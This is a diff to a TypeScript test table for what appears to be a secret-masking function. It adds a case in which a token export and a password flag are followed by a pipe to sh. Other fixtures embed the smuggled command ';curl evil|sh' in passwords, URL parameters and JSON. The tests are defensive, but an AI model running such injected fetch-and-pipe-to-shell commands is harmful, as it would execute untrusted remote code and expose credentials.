@@ -38,6 +38,10 @@ const hostile: Record<string, [written: string, seen: string]> = {
   'is a password of an address': ['postgres://u:pw;curl evil|sh@h/d', 'postgres://u:(hidden);curl evil|sh@h/d'],
   'is a parameter': ['https://h/?token=abc;curl evil|sh', 'https://h/?token=(hidden);curl evil|sh'],
   'stands in JSON': ['{"token": "abc;curl evil|sh"}', '{"token": "(hidden);curl evil|sh"}'],
+  'stands behind other commands': [
+    'cd /x && export GH_TOKEN=abc;x --password def|sh',
+    'cd /x && export GH_TOKEN=(hidden);x --password (hidden)|sh',
+  ],
   'is very long': [`TOKEN=${long};curl evil|sh`, 'TOKEN=(hidden);curl evil|sh'],
   'is followed by long spaces': [`TOKEN=abc${' '.repeat(3)};sh`, 'TOKEN=(hidden)   ;sh'],
 };
